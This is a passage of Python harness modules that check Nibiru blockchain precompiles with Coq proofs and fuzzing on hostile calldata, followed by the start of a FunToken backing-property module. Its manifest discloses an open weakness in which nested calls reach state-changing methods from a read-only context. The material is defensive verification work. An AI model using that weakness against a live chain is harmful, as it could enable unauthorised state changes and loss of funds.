    i, o = rec["input"], rec["obs"]
    pre = []
    for st, so in zip(i.get("pre") or [], o.get("pre") or []):
        pre.append("PEvm" if st.get("evm") else "PCall %s" % _call(st, so))
    return "{| c_pre := [%s]; c_call := %s; c_drop_eq := %s |}" % ("; ".join(pre), _call(i, o), _b(o.get("drop_eq", True)))


def nontrivial(rec):
    i, o = rec["input"], rec["obs"]
    if not o["reached"]:
        return False
    n = len(i["data"]) // 2
    return n < 4 or o["unpack_ok"]


def _pre_shape(i, o):
    """the earlier steps of the transaction as a short word: q = successful query, m = successful state-changing call,
    f = failed call, e = EVM state change"""
    out = ""
    for st, so in zip(i.get("pre") or [], o.get("pre") or []):
        if st.get("evm"):
            out += "e"
        elif so.get("class") != "ok":
            out += "f"
        else:
            out += "m" if so.get("method") in _MUTATING else "q"
    return out


def classify(rec):
    i, o = rec["input"], rec["obs"]
    lab = i.get("label", "")
    shape = lab.split("/")[-1] if "/" in lab else lab
    ks = ["pc:" + ["funtoken", "wasm", "oracle"][i["pc"] if 0 <= i["pc"] <= 2 else 0], "kind:" + i["kind"],
          "class:" + o["class"], "shape:" + ("opener" if lab.startswith("opener") else shape),
          "value:" + ("0" if i["value"] == "0" else "nonzero"), "method:" + (o["method"] or "-")]
    if o["method"]:
        ks.append("outcome:%s/%s" % (o["method"], o["class"]))
    if not o["reached"]:
        ks.append("not-reached")
    if i.get("pre"):
        sh = _pre_shape(i, o)
        ks.append("tx:steps-before=%s" % (len(sh) if len(sh) < 5 else "5+"))
        ks.append("tx:directly-behind=" + {"q": "query", "m": "mutation", "f": "failed-call", "e": "evm-change"}.get(sh[-1:], "-"))
        if o["method"] in _MUTATING and o["class"] in ("err", "oog"):
            ks.append("tx:failed-mutation-behind=" + (sh if len(sh) < 4 else sh[-3:] + "+"))
        if o["method"] in _MUTATING and o["class"] in ("err", "oog") and o.get("unpack_ok") and i["kind"] in ("top", "call"):
            ks.append("tx:failed-mutation-body-reached")
        if "f" in sh and len(sh.replace("e", "")) < 10:
            ks.append("tx:rerun-without-failed-earlier-calls")
    else:
        ks.append("tx:single-call")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": {k: v for k, v in rec["obs"].items() if k != "args"}}


def signature(rec):
    i, o = rec["input"], rec["obs"]
    pc = ["funtoken", "wasm", "oracle"][i["pc"] if 0 <= i["pc"] <= 2 else 0]
    if o["class"] == "panic":
        nt = o.get("note", "")
        if o.get("panic_oog"):
            cls = "sdk.ErrorOutOfGas"
        elif "invalid StringKey: invalid null character" in nt:
            cls = "collections-string-key-nul"
        elif o.get("panic_int") or "integer overflow" in nt:
            cls = "sdkmath-integer-overflow"
        elif "cannot convert slice with length" in nt:
            cls = "slice-to-array-conversion"
        elif "slice bounds out of range" in nt:
            cls = "slice-bounds"
        elif "invalid denom" in nt:
            cls = "sdk.NewCoin-invalid-denom"
        else:
            cls = nt[:60]
        sig = {"kind": "panic", "precompile": pc, "panic_class": cls}
        if o.get("method") and cls != "sdk.ErrorOutOfGas":
            sig["method"] = o["method"]
        return sig
    if i["kind"] == "nested" and o["class"] == "ok" and o.get("method") in _MUTATING:
        return {"kind": "static-context-mutation", "via": "STATICCALL>CALL", "precompile": pc}
    if i["kind"] in ("static", "delegate", "callcode") and (not o["state_eq"] or (o["class"] == "ok" and o.get("method") in _MUTATING)):
        return {"kind": "static-context-mutation", "via": i["kind"].upper(), "precompile": pc, "method": o.get("method")}
    if not o.get("drop_eq", True):
        return {"kind": "failed-call-visible-to-rest-of-tx", "precompile": pc, "method": o.get("method"), "earlier_steps": _pre_shape(i, o)[-4:]}
    if o["class"] in ("err", "oog") and not o["state_eq"]:
        sig = {"kind": "failed-call-left-state", "precompile": pc, "method": o.get("method"), "call": i["kind"]}
        if i.get("pre"):
            sig["directly_behind"] = {"q": "query", "m": "mutation", "f": "failed-call", "e": "evm-change"}.get(_pre_shape(i, o)[-1:], "-")
        return sig
    if o["left"] > o["fwd"]:
        return {"kind": "gas-exceeds-forwarded", "precompile": pc, "method": o.get("method")}
    if o["class"] == "ok" and o.get("cost") and o["fwd"] - o["left"] != int(o["cost"]):
        return {"kind": "gas-charged-differs-from-consumed", "precompile": pc, "method": o.get("method"),
                "below_cost": o["fwd"] < int(o["cost"])}
    return {"kind": "query-changed-state", "precompile": pc, "method": o.get("method"), "call": i["kind"]}


def input_size(inp):
    return (len(inp["data"]) + (0 if inp["value"] == "0" else 5) + (0 if inp["gas"] in (1000000, 3000000) else 3)
            + sum(20 + len(st.get("data", "")) for st in inp.get("pre") or []))


def shrink_candidates(inp):
    out = []
    # a shorter transaction first: drop one earlier step, keep only the last one
    pre = inp.get("pre") or []
    for k in range(len(pre)):
        out.append(dict(inp, pre=pre[:k] + pre[k + 1:]))
    if len(pre) > 1:
        out.append(dict(inp, pre=pre[-1:]))
    data = inp["data"]
    n = len(data) // 2
    # drop trailing 32-byte words / bytes, zero a word, simplify gas / value / kind
    if n > 4:
        for cut in (32, 64, 1):
            if n - cut >= 4:
                out.append(dict(inp, data=data[:2 * (n - cut)]))
        nw = (n - 4) // 32
        for wi in range(min(nw, 12)):
            z = data[:8 + 64 * wi] + "00" * 32 + data[8 + 64 * (wi + 1):]
            if z != data:
                out.append(dict(inp, data=z))
    if inp["gas"] not in (1000000, 3000000):
        out.append(dict(inp, gas=3000000))
    if inp["value"] != "0":
        out.append(dict(inp, value="0"))
    if inp["kind"] not in ("top", "nested", "static", "tx", "txcall"):
        out.append(dict(inp, kind="top"))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an executable model of one precompile call (geth's Call/StaticCall/DelegateCall/CallCode wrapper + "
                 "runPrecompiledContract, requiredGas with Go slice-capacity semantics, decomposeInput, OnRunStart's local gas meter, "
                 "HandleOutOfGasPanic, the three Run dispatchers and the guard/validator prefix of all 14 method handlers), quantified "
                 "over every facts record, every keeper-level body (any outcome, gas and state writes), every calldata length / selector / "
                 "ABI-decoder result, call kind, value and gas: C08_gas_bounded (0 <= gas left <= forwarded), C08_error_leaves_no_state "
                 "(error or out-of-gas => state exactly as before and all gas consumed), C08_static_never_mutates (read-only call kinds: "
                 "state unchanged, every non-view method refused), C08_query_never_mutates / C08_guarded_query_never_mutates, "
                 "and over SEQUENCES of calls inside one transaction (Model.v Section Tx: the journal of the shared StateDB, the multistore "
                 "snapshot OnRunStart appends per call, the call counter, RevertToSnapshot): C08_failed_call_leaves_no_state_in_tx (after any "
                 "list of earlier calls / EVM state changes, from any journal: a failed call gives back both sides of the state and the journal "
                 "exactly, whatever its body wrote before failing), C08_call_in_tx_is_single_call (a call after any history is the single call "
                 "of the other theorems on the state the history left), C08_call_budget_fails_closed, C08_tx_call_satisfies_property; "
                 "refutation C08_failed_call_leaves_state_refuted_with_coalesced_snapshots for the variant that keeps the previous snapshot; "
                 "C08_no_panic_partial (every modelled panic source - input[:4], sdk.NewCoin, NewIntFromBigInt, collections string keys, "
                 "256-bit bank supply under MintCoins, the gas meter panic - is unreachable behind its guard), C08_model_satisfies_property "
                 "(the trace predicate Pb checks holds of every model run). The facts (ABI methods and selectors from the embedded JSON, "
                 "isMutation table, per-handler guard and its position, dispatch, the six panic guards, geth's read-only arguments, and from "
                 "x/evm/statedb that SavePrecompileCalledJournalChange appends its snapshot on every call and the call budget) are "
                 "re-extracted from /repo and the go-ethereum fork on every run and the instantiated theorems C08_holds_for_current_tree / "
                 "C08_current_*_ok are re-checked. Refutation witnesses are proved for the tree before each of the four fix: commits. "
                 "The model is run against the implementation on ~860 cases per quick run (structure-aware hostile calldata x "
                 "6 call kinds x value x gas boundaries, a method x call-kind matrix, 15 DeliverTx cases, and ~240 transactions of several steps "
                 "on one StateDB whose last call is the one under test): outcome class and gas "
                 "handed back must agree exactly, and the proved-sound checker Pb is evaluated on the implementation traces with a digest "
                 "of the bank/evm/wasm/oracle stores before and after."),
        "design_ref": "DESIGN.md §5 C08",
    },
    "level_note": ("PARTIAL as planned: Go-level panic freedom is carried by explicit Panic outcomes at the library calls the model lists; a "
                   "panic source inside a keeper body that the model does not list can only be found by the calldata generator (that is how "
                   "findings 1, 3 and 4 were found, each then added to the model with a refutation witness). On this tree the clause "
                   "'state-changing methods are refused in static context' holds for the DIRECT call kinds (STATICCALL, DELEGATECALL, CALLCODE "
                   "to the precompile) only: a CALL issued below a STATICCALL frame reaches mutating methods because the go-ethereum fork's "
                   "EVM.Call passes readOnly=false (OPEN known finding, C08_nested_static_refuted / C08_nested_static_status_on_current_tree; "
                   "C08_nested_static_if_inherited proves the clause once the flag is handed down). Hypotheses of the theorems: keeper query "
                   "APIs behind view methods do not write (query_bodies_readonly; checked per case by the store digest), the ABI decoder "
                   "returns values within their Solidity ranges (input_wf). Reversal of the EVM side of the state on error is C04's StateDB journal, "
                   "modelled as restoring it; reversal of the other modules' stores is modelled through the journaled multistore snapshots. Trusted: Coq kernel + vm_compute; the go/ast extractor harness/gen/c08 (textual normal forms) "
                   "and geth accounts/abi; the driver's decode facts (geth ABI decoder, bech32 / tokenfactory / JSON validity bits) and store "
                   "digest. Not modelled: the ABI decoder itself, keeper bodies, uint64 overflow in requiredGas, depth/balance rejections."),
    "technique": "Coq proof over a model of the geth precompile wrapper + Nibiru dispatch/guard code parameterised by generated facts; "
                 "differential correspondence (model executed per case) on generated calldata; refutation witnesses by vm_compute",
}
