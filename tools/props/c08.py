"""C08 — Nibiru precompiles fail closed on any input and respect call context."""
import json

ID = "C08"
GEN = "c08"
HARNESS_TEST = "TestC08.*"
COQ_MODEL = ["C08/Check.v", "Gen/C08Facts.v"]
COQ_PROOF_DEPS = ["C08/Proofs.v", "C08/Examples.v"]
COQ_OBLIG = ["C08/Property.v", "Gen/C08Oblig.v"]
CASES_HEADER = "Require Import Nib.C08.Model Nib.C08.Spec Nib.C08.Check Nib.Gen.C08Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_facts"
VIOLATES_FN = "violates current_facts"
RULE = ("case = one call to a Nibiru precompile: (FunToken|Wasm|Oracle) x call kind (top-level evm.Call, CALL / STATICCALL / "
        "DELEGATECALL / CALLCODE issued by a hand-assembled forwarder contract, CALL below a STATICCALL frame) x attached value "
        "(0, 1 wei, 1 unibi) x forwarded gas (ample, RequiredGas-1, RequiredGas, RequiredGas+small, tiny) x calldata (empty, 1-3 bytes, "
        "unknown selector, every ABI method with well-formed hostile arguments / truncated / oversized / one ABI word overwritten / "
        "random payload); fixed openers = the historic failure shapes; non-trivial = the call reaches a method handler (selector "
        "known and ABI payload decodes) or is one of the short-calldata shapes, i.e. it exercises requiredGas/decomposeInput slicing, "
        "a context guard, an argument validator, a panic-capable constructor or the out-of-gas conversion; distinct = distinct input")
ASSUMPTIONS = [
    "geth's ABI decoder result for the calldata (decoded arguments, abstracted) is an oracle value computed by the harness with the same library call",
    "bech32 / tokenfactory-denom / JSON validity bits attached to decoded strings are computed by the library functions the code calls",
    "keeper-level bodies behind the validators (bank, wasm, ERC20 calls) are an oracle in the model: outcome class and gas used are read off the trace; "
    "their panic freedom is searched by the generator only",
    "state reversal on a failed call is the StateDB snapshot/revert of C04 (digest compared after StateDB.Commit on a branch of the world)",
]
TRUSTED = [
    "geth accounts/abi (used by the fact extractor for selectors and by the harness for decoding)",
    "canonical store digest: sha256 over all keys/values of the bank, evm, wasm, oracle KV stores",
]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 3600}

_KIND = {"top": "KTop", "tx": "KTop", "call": "(KCall false)", "nested": "(KCall true)", "static": "KStatic",
         "delegate": "KDelegate", "callcode": "KCallCode"}
_PC = ["PFunToken", "PWasm", "POracle"]
_CLASS = {"ok": "Ok", "err": "Err", "oog": "OutOfGas", "panic": "Panic"}


def _z(n):
    return "(%d)%%Z" % int(n)


def _bytes(bs):
    return "[" + "; ".join(str(int(b)) for b in bs) + "]%Z"


def _funds(fs):
    return "[" + "; ".join("(%s, %s)" % (_bytes(f["d"]), _z(f["a"])) for f in (fs or [])) + "]"


def _b(x):
    return "true" if x else "false"


def _arg(a):
    t = a["t"]
    if t == "addr":
        return "AAddr"
    if t == "uint":
        return "AUint %s" % _z(a.get("v", "0"))
    if t == "str":
        return "AStr %s %s %s %s" % (_bytes(a.get("s") or []), _b(a.get("b32")), _z(a.get("blen", 0)), _b(a.get("tf")))
    if t == "bytes":
        return "ABytes %s" % _b(a.get("json"))
    if t == "funds":
        return "AFunds %s" % _funds(a.get("funds"))
    if t == "msgs":
        return "AMsgs [%s]" % "; ".join("(%s, %s, %s)" % (_b(m["b32"]), _b(m["json"]), _funds(m["funds"])) for m in (a.get("msgs") or []))
    return "AAddr"


def to_coq_case(rec):
    i, o = rec["input"], rec["obs"]
    data = bytes.fromhex(i["data"])
    unpack = "None"
    if o["unpack_ok"]:
        unpack = "(Some [%s])" % "; ".join(_arg(a) for a in o["args"])
    inp = "{| i_len := (%d)%%Z; i_head := %s; i_unpack := %s |}" % (len(data), _bytes(data[:4]), unpack)
    pc = _PC[i["pc"] if 0 <= i["pc"] <= 2 else 0]
    value = int(i["value"]) if i["kind"] in ("top", "tx", "call", "callcode") else 0
    return ("{| c_reached := %s; c_pc := %s; c_kind := %s; c_value := %s; c_gas := %s; c_inp := %s; "
            "o_class := %s; o_left := %s; o_state_eq := %s; o_core_eq := %s; o_oog_panic := %s; o_cost := %s; o_mint_panic := %s |}") % (
        _b(o["reached"]), pc, _KIND.get(i["kind"], "KTop"), _z(value), _z(o["fwd"]), inp,
        _CLASS.get(o["class"], "Err"), _z(o["left"]), _b(o["state_eq"]), _b(o["core_eq"]), _b(o["panic_oog"]), ("(Some %s)" % _z(o["cost"])) if o.get("cost") else "None", _b(o.get("panic_int")))


def nontrivial(rec):
    i, o = rec["input"], rec["obs"]
    if not o["reached"]:
        return False
    n = len(i["data"]) // 2
    return n < 4 or o["unpack_ok"]


def classify(rec):
    i, o = rec["input"], rec["obs"]
    lab = i.get("label", "")
    shape = lab.split("/")[-1] if "/" in lab else lab
    ks = ["pc:" + ["funtoken", "wasm", "oracle"][i["pc"] if 0 <= i["pc"] <= 2 else 0], "kind:" + i["kind"],
          "class:" + o["class"], "shape:" + ("opener" if lab.startswith("opener") else shape),
          "value:" + ("0" if i["value"] == "0" else "nonzero"), "method:" + (o["method"] or "-")]
    if o["method"]:
        ks.append("outcome:%s/%s" % (o["method"], o["class"]))
    if not o["reached"]:
        ks.append("not-reached")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": {k: v for k, v in rec["obs"].items() if k != "args"}}


_MUTATING = {"sendToBank", "sendToEvm", "bankMsgSend", "execute", "instantiate", "executeMulti"}


def signature(rec):
    i, o = rec["input"], rec["obs"]
    pc = ["funtoken", "wasm", "oracle"][i["pc"] if 0 <= i["pc"] <= 2 else 0]
    if o["class"] == "panic":
        nt = o.get("note", "")
        if o.get("panic_oog"):
            cls = "sdk.ErrorOutOfGas"
        elif "invalid StringKey: invalid null character" in nt:
            cls = "collections-string-key-nul"
        elif o.get("panic_int") or "integer overflow" in nt:
            cls = "sdkmath-integer-overflow"
        elif "cannot convert slice with length" in nt:
            cls = "slice-to-array-conversion"
        elif "slice bounds out of range" in nt:
            cls = "slice-bounds"
        elif "invalid denom" in nt:
            cls = "sdk.NewCoin-invalid-denom"
        else:
            cls = nt[:60]
        sig = {"kind": "panic", "precompile": pc, "panic_class": cls}
        if o.get("method") and cls != "sdk.ErrorOutOfGas":
            sig["method"] = o["method"]
        return sig
    if i["kind"] == "nested" and o["class"] == "ok" and o.get("method") in _MUTATING:
        return {"kind": "static-context-mutation", "via": "STATICCALL>CALL", "precompile": pc}
    if i["kind"] in ("static", "delegate", "callcode") and (not o["state_eq"] or (o["class"] == "ok" and o.get("method") in _MUTATING)):
        return {"kind": "static-context-mutation", "via": i["kind"].upper(), "precompile": pc, "method": o.get("method")}
    if o["class"] in ("err", "oog") and not o["state_eq"]:
        return {"kind": "failed-call-left-state", "precompile": pc, "method": o.get("method"), "call": i["kind"]}
    if o["left"] > o["fwd"]:
        return {"kind": "gas-exceeds-forwarded", "precompile": pc, "method": o.get("method")}
    if o["class"] == "ok" and o.get("cost") and o["fwd"] - o["left"] != int(o["cost"]):
        return {"kind": "gas-charged-differs-from-consumed", "precompile": pc, "method": o.get("method"),
                "below_cost": o["fwd"] < int(o["cost"])}
    return {"kind": "query-changed-state", "precompile": pc, "method": o.get("method"), "call": i["kind"]}


def input_size(inp):
    return len(inp["data"]) + (0 if inp["value"] == "0" else 5) + (0 if inp["gas"] in (1000000, 3000000) else 3)


def shrink_candidates(inp):
    out = []
    data = inp["data"]
    n = len(data) // 2
    # drop trailing 32-byte words / bytes, zero a word, simplify gas / value / kind
    if n > 4:
        for cut in (32, 64, 1):
            if n - cut >= 4:
                out.append(dict(inp, data=data[:2 * (n - cut)]))
        nw = (n - 4) // 32
        for wi in range(min(nw, 12)):
            z = data[:8 + 64 * wi] + "00" * 32 + data[8 + 64 * (wi + 1):]
            if z != data:
                out.append(dict(inp, data=z))
    if inp["gas"] not in (1000000, 3000000):
        out.append(dict(inp, gas=3000000))
    if inp["value"] != "0":
        out.append(dict(inp, value="0"))
    if inp["kind"] not in ("top", "nested", "static"):
        out.append(dict(inp, kind="top"))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an executable model of one precompile call (geth's Call/StaticCall/DelegateCall/CallCode wrapper + "
                 "runPrecompiledContract, requiredGas with Go slice-capacity semantics, decomposeInput, OnRunStart's local gas meter, "
                 "HandleOutOfGasPanic, the three Run dispatchers and the guard/validator prefix of all 14 method handlers), quantified "
                 "over every facts record, every keeper-level body (any outcome, gas and state writes), every calldata length / selector / "
                 "ABI-decoder result, call kind, value and gas: C08_gas_bounded (0 <= gas left <= forwarded), C08_error_leaves_no_state "
                 "(error or out-of-gas => state exactly as before and all gas consumed), C08_static_never_mutates (read-only call kinds: "
                 "state unchanged, every non-view method refused), C08_query_never_mutates / C08_guarded_query_never_mutates, "
                 "C08_no_panic_partial (every modelled panic source - input[:4], sdk.NewCoin, NewIntFromBigInt, collections string keys, "
                 "256-bit bank supply under MintCoins, the gas meter panic - is unreachable behind its guard), C08_model_satisfies_property "
                 "(the trace predicate Pb checks holds of every model run). The facts (ABI methods and selectors from the embedded JSON, "
                 "isMutation table, per-handler guard and its position, dispatch, the six panic guards, geth's read-only arguments) are "
                 "re-extracted from /repo and the go-ethereum fork on every run and the instantiated theorems C08_holds_for_current_tree / "
                 "C08_current_*_ok are re-checked. Refutation witnesses are proved for the tree before each of the four fix: commits. "
                 "The model is run against the implementation on ~640 generated calls per quick run (structure-aware hostile calldata x "
                 "6 call kinds x value x gas boundaries, plus a method x call-kind matrix and 15 DeliverTx cases): outcome class and gas "
                 "handed back must agree exactly, and the proved-sound checker Pb is evaluated on the implementation traces with a digest "
                 "of the bank/evm/wasm/oracle stores before and after."),
        "design_ref": "DESIGN.md §5 C08",
    },
    "level_note": ("PARTIAL as planned: Go-level panic freedom is carried by explicit Panic outcomes at the library calls the model lists; a "
                   "panic source inside a keeper body that the model does not list can only be found by the calldata generator (that is how "
                   "findings 1, 3 and 4 were found, each then added to the model with a refutation witness). On this tree the clause "
                   "'state-changing methods are refused in static context' holds for the DIRECT call kinds (STATICCALL, DELEGATECALL, CALLCODE "
                   "to the precompile) only: a CALL issued below a STATICCALL frame reaches mutating methods because the go-ethereum fork's "
                   "EVM.Call passes readOnly=false (OPEN known finding, C08_nested_static_refuted / C08_nested_static_status_on_current_tree; "
                   "C08_nested_static_if_inherited proves the clause once the flag is handed down). Hypotheses of the theorems: keeper query "
                   "APIs behind view methods do not write (query_bodies_readonly; checked per case by the store digest), the ABI decoder "
                   "returns values within their Solidity ranges (input_wf). State reversal on error is C04's StateDB snapshot, modelled as "
                   "restoring the pre-call state. Trusted: Coq kernel + vm_compute; the go/ast extractor harness/gen/c08 (textual normal forms) "
                   "and geth accounts/abi; the driver's decode facts (geth ABI decoder, bech32 / tokenfactory / JSON validity bits) and store "
                   "digest. Not modelled: the ABI decoder itself, keeper bodies, uint64 overflow in requiredGas, depth/balance rejections."),
    "technique": "Coq proof over a model of the geth precompile wrapper + Nibiru dispatch/guard code parameterised by generated facts; "
                 "differential correspondence (model executed per case) on generated calldata; refutation witnesses by vm_compute",
}
