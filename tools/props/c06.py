"""C06 — every FunToken unit is backed one-for-one on the other side."""
import json

ID = "C06"
HARNESS_TEST = "TestC06"
GEN = "c06"
COQ_MODEL = ["C06/Check.v", "C06/Paths.v", "Gen/C06Facts.v"]
COQ_PROOF_DEPS = ["C06/Proofs.v", "C06/ProofsExact.v", "C06/ProofsPaths.v", "C06/ProofsSpell.v", "C06/ProofsReentry.v"]
COQ_OBLIG = ["C06/Property.v", "Gen/C06Oblig.v"]
CASES_HEADER = "Require Import Nib.C06.Model Nib.C06.Spec Nib.C06.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("case = one history on a fresh chain through BeginBlock/DeliverTx/EndBlock/Commit: bank funding + metadata "
        "(ordinary coins and the gas coin unibi, which is mapped as a coin-born FunToken in ~half of the cases), "
        "denoms are STRINGS: every name (ucoin<n>, unibi, tf/…, erc20/<address>, IBC vouchers ibc/<SHA256 of a trace>) in 4 "
        "letter-case spellings (the chain's own; all lower / all upper; alternating case after the last '/'); 60% of the cases "
        "hold a voucher with holders, (mostly) its mapping, 1-3 CreateFunToken attempts under other spellings of the hash "
        "(a third with bank metadata and coins under that spelling, a quarter with the other spelling registered first) and "
        "conversions afterwards, 7% of the random ops are create / metadata / fund / convert / sendToEvm under another "
        "spelling of a mapped or known denom; the registry is read through FunTokens.Indexes.BankDenom / ERC20Addr (under "
        "every string spelled so far) and after every CreateFunToken both indexes are queried under all spellings, "
        "bridge messages reached THROUGH THE WASM PRECOMPILE: in 45% of the cases the forwarder owns a reflect.wasm contract "
        "(account 7, funded with the mapped coins) and calls Wasm.execute on it so that it re-dispatches a Stargate "
        "MsgConvertCoinToEvm / MsgCreateFunToken (refused inside the EVM tx) or a bank MsgSend of a mapped denom (incl. to "
        "the escrow) in the middle of the EVM tx, in all five frames and paired with sendToBank / sendToEvm in one tx, "
        "1-3 embedded ERC20s (TestERC20 / TestERC20TransferWithFee / TestERC20MaliciousTransfer), then 10-24 ops drawn from "
        "MsgCreateFunToken (coin / erc20, incl. duplicates and nonexistent contracts), MsgConvertCoinToEvm (both births), "
        "precompile sendToBank / sendToEvm / bankMsgSend (direct from an EOA or through a forwarder contract: plain, "
        "revert-at-top, reverting sub-frame, swallowed failure, once-then-reverted; hex / bech32 / unparsable recipient; "
        "low gas; x/tokenfactory admin txs on factory denoms that have a coin-born mapping — create, mint_to, burn_from (30% aimed "
        "at the EVM module account), change admin — and plain bank send / multisend (30% aimed at the module account); "
        "plus fixed gas-STIPEND sweeps: the forwarder repeats one conversion with a descending explicit gas stipend, "
        "steps of 1000 (quick) / 200 (thorough) over 230k..40k), ERC20 transfer / burn (incl. donations to the module), pairs of ops in ONE transaction (two forwarder calls in "
        "one EVM tx, two messages in one Cosmos tx: both or nothing); amounts small, zero, above balance, huge, negative. "
        "Observed after EVERY tx: accepted?, registry, totalSupply, balanceOf(module), bank supply, module escrow per mapping, "
        "actor balances of the touched token/denom. non-trivial = at least two accepted conversions and one of: an accepted "
        "conversion on a fee-on-transfer token, an accepted tx with a reverting/swallowing sub-frame around a conversion, "
        "conversions in both directions on one mapping, or a CreateFunToken under another spelling of a name that already "
        "has a mapping; distinct = distinct input")
ASSUMPTIONS = [
    "ERC20 contracts of ERC20-born mappings are 'conservative': balances change only through transfer/burn by the holder, "
    "the sender is debited exactly the amount, the recipient is credited amount-fee, the fee goes to a sink account "
    "(rebasing / owner-mint tokens are outside the statement, as in the property text: 'standard tokens')",
    "the EVM module account never originates a precompile call or a transaction (it has no key; DELEGATECALL/CALLCODE reach "
    "precompiles read-only with the calling contract as caller — checked by reading core/vm/evm.go of the fork)",
    "no other module mints or burns a mapped 'erc20/0x…' denom, and nothing but the bank send paths moves the module's escrow",
    "atomicity of a reverted frame / failed tx is taken from C04 in the model (Framed … = no change) and CHECKED against the "
    "implementation by the correspondence run (sub-frame reverts, top-level reverts, swallowed failures, out-of-gas)",
    "transaction gas fees are not modelled: unibi balances of the four gas-paying accounts are not compared, the unibi bank "
    "supply is compared relative to the part of genesis outside the modelled accounts; the CreateFunToken fee (burned) IS modelled",
]
TRUSTED = ["hand-assembled forwarder contract (262 bytes) and returns-false ERC20 (182 bytes), listings in coq/C06/README.md",
           "reflect.wasm of the repository (x/devgas/v1/keeper/testdata) as the CosmWasm contract that re-dispatches Stargate messages"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}

CONV = ("convert", "send_to_bank", "send_to_evm")
WASM = ("wasm_convert", "wasm_create_coin", "wasm_create_erc20", "wasm_bank_send")
KINDS = {
    "std": ("{| tb_fee := fun _ => 0%Z; tb_sink := Module; tb_heavy := false; tb_false := false; tb_burn := false; tb_pos := false |}",
            10 ** 24),
    "fee": ("{| tb_fee := fun x => (x * 10 / 100)%%Z; tb_sink := tok_addr %d%%nat; tb_heavy := false; tb_false := false; tb_burn := false; tb_pos := true |}",
            1000),
    "false": ("{| tb_fee := fun _ => 0%Z; tb_sink := Module; tb_heavy := false; tb_false := true; tb_burn := false; tb_pos := false |}",
              1000),
    "heavy": ("{| tb_fee := fun _ => 0%Z; tb_sink := Module; tb_heavy := true; tb_false := false; tb_burn := false; tb_pos := false |}",
              10 ** 24),
}
FRAMES = {"plain": "FPlain", "revert_top": "FRevertTop", "inner_revert": "FInnerRevert", "swallow": "FSwallow",
          "once_then_reverted": "FOnceThenReverted"}


def _z(x):
    return "(%d)%%Z" % int(x)


def _n(x):
    return "%d%%nat" % int(x)


def _den(d):
    """denoms are strings: sp = 0 is the chain's own spelling of the name, sp > 0 the sp-th other spelling (letter case)"""
    if d is None:
        return "(DCoin 998%nat)"
    k, n, sp = d["k"], int(d.get("n", 0)), int(d.get("sp") or 0)
    if k == "g":
        name, chain = "NCoin 1000%nat", "DGas"
    elif k == "t":
        name, chain = "NCoin %d%%nat" % (2000 + n), "(DCoin %d%%nat)" % (2000 + n)
    elif k == "e":
        name, chain = "NErc %s" % _n(n), "(DErc %s)" % _n(n)
    elif k == "i":
        name, chain = "NIbc %s" % _n(n), "(DIbc %s)" % _n(n)
    else:
        name, chain = "NCoin %s" % _n(n), "(DCoin %s)" % _n(n)
    if sp == 0:
        return chain
    return "(DAlt (%s) %s)" % (name, _n(sp))


def _amt(op):
    x = op.get("x") or "0"
    return _z(x)


def _flat(op):
    return (op.get("ops") or []) if op["k"] == "seq" else [op]


def _ntok_before(rec, i):
    """number of ERC20 contracts known before step i (token ids are assigned in deployment order)"""
    n = 0
    for op, ob in zip(rec["input"][:i], rec["obs"][:i]):
        for sub in _flat(op):
            if ob["ok"] and sub["k"] in ("deploy", "create_coin"):
                n += 1
    return n


def _op(rec, i):
    return _op_of(rec["input"][i], rec["obs"][i]["ok"], _ntok_before(rec, i))


def _op_of(op, tx_ok, ntok, in_seq=False):
    k = op["k"]
    a, to, t = op.get("a", 0), op.get("to", 0), op.get("t", 0)
    if k == "seq":
        subs = op.get("ops") or []
        if len(subs) != 2:
            return "Framed FBadArgs (SetMeta (DCoin 0%nat))"
        cosmos = all(x["k"] in ("create_coin", "create_erc20", "convert") for x in subs)
        evm = all(x["k"] in ("send_to_bank", "send_to_evm", "bank_msg_send", "erc20_transfer", "erc20_burn") + WASM for x in subs)
        okc = cosmos and subs[0].get("a") == subs[1].get("a") and subs[0].get("a") in (3, 4)
        oke = evm and all(x.get("a") == 5 for x in subs)
        if not (okc or oke):
            return "Framed FBadArgs (SetMeta (DCoin 0%nat))"
        return "Seq (%s) (%s)" % (_op_of(subs[0], True, ntok, True), _op_of(subs[1], True, ntok, True))
    if k == "fund":
        base = "Fund %s %s %s" % (_n(a), _den(op.get("d")), _amt(op))
    elif k == "meta":
        base = "SetMeta %s" % _den(op.get("d"))
    elif k == "deploy":
        kind = op.get("kind", "std")
        if kind not in KINDS or a not in (1, 2):
            base = "Deploy %s %s (-1)%%Z" % (_n(0), KINDS["std"][0])  # rejected by the model as by the driver
        else:
            beh, sup = KINDS[kind]
            if kind == "fee":
                beh = beh % ntok
            base = "Deploy %s %s %s" % (_n(a), beh, _z(sup))
    elif k == "create_coin":
        base = "CreateFromCoin %s %s" % (_n(a), _den(op.get("d")))
    elif k == "create_erc20":
        base = "CreateFromErc20 %s %s" % (_n(a), _n(t))
    elif k == "tf_create":
        d = op.get("d") or {}
        if d.get("k") != "t" or d.get("sp") or d.get("n", 0) // 10 != a or a not in (3, 4):
            base = "Framed FBadArgs (SetMeta (DCoin 0%nat))"
        else:
            base = "TfCreate %s %s" % (_n(a), _den(d))
    elif k in ("tf_mint", "tf_burn", "tf_change_admin", "bank_send", "bank_multisend") and (a not in (3, 4) or op.get("d") is None):
        base = "Framed FBadArgs (SetMeta (DCoin 0%nat))"
    elif k == "tf_mint":
        base = "TfMint %s %s %s %s" % (_n(a), _den(op.get("d")), _amt(op), _n(to))
    elif k == "tf_burn":
        base = "TfBurn %s %s %s %s" % (_n(a), _den(op.get("d")), _amt(op), _n(to))
    elif k == "tf_change_admin":
        base = "TfChangeAdmin %s %s %s" % (_n(a), _den(op.get("d")), _n(to))
    elif k == "bank_send":
        base = "BankMsgSend %s %s %s %s" % (_n(a), _n(to), _den(op.get("d")), _amt(op))
    elif k == "bank_multisend":
        base = "Seq (BankMsgSend %s %s %s %s) (BankMsgSend %s %s %s %s)" % (
            _n(a), _n(to), _den(op.get("d")), _amt(op), _n(a), _n(op.get("to2", 0)), _den(op.get("d")), _z(op.get("x2") or "0"))
    elif k == "convert":
